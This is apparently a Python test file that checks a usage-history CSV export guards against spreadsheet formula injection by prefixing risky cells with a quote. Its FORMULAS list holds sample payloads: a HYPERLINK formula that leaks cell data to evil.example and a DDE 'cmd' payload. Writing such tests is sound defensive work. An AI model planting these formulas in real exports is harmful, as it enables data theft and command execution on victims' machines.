"""The usage CSV never hands a spreadsheet a formula: every text cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return is prefixed with a single quote (OWASP "CSV Injection"), whatever
column it is in; numbers, flags and harmless text are written as they are."""

from __future__ import annotations

import csv
import io
import time
from types import SimpleNamespace
from typing import Any

from sqlalchemy.ext.asyncio import AsyncEngine

from darkbloom.coordinator.money.usage_history import CSV_COLUMNS, csv_lines
from darkbloom.store import accounts
from darkbloom.store.schema import usage_records

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1"]


async def _usage_row(engine: AsyncEngine, account_id: str, number: int, **fields: Any) -> None:
    row = {"request_id": f"chatcmpl-{number}", "account_id": account_id, "model": "smollm2-135m",
           "provider_id": "prov_1", "prompt_tokens": 3, "completion_tokens": 1, "cost_micro_usd": 7,
           "platform_fee_micro_usd": 0, "provider_payout_micro_usd": 0, "self_routed": False, "routed": "fleet",
           "share_id": None, "created_at": int(time.time()), **fields}
    async with engine.begin() as conn:
        await conn.execute(usage_records.insert().values(**row))


async def _exported(engine: AsyncEngine, account_id: str) -> list[dict[str, str]]:
    text = "".join([line async for line in csv_lines(SimpleNamespace(engine=engine), account_id)])  # type: ignore[arg-type]
    reader = csv.reader(io.StringIO(text, newline=""))
    header, *rows = list(reader)
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, row)) for row in rows]


async def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(engine: AsyncEngine) -> None:
    async with engine.begin() as conn:
        account_id = await accounts.create_account(conn, "csv@example.com", "hash")
    for number, formula in enumerate(FORMULAS):
        await _usage_row(engine, account_id, number, model=formula)
    await _usage_row(engine, account_id, 90, request_id="=req", provider_id="+prov", routed="@shared",
                     share_id="-share")
    await _usage_row(engine, account_id, 91, model="owner/name", cost_micro_usd=0, self_routed=True)
    rows = await _exported(engine, account_id)
    plain, every_column, *formulas = rows  # newest first
    assert [row["model"] for row in reversed(formulas)] == ["'" + formula for formula in FORMULAS]
    assert (every_column["request_id"], every_column["provider_id"], every_column["routed"],
            every_column["share_id"]) == ("'=req", "'+prov", "'@shared", "'-share")
    assert (plain["model"], plain["cost_micro_usd"], plain["self_routed"], plain["share_id"]) == \
        ("owner/name", "0", "true", "")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
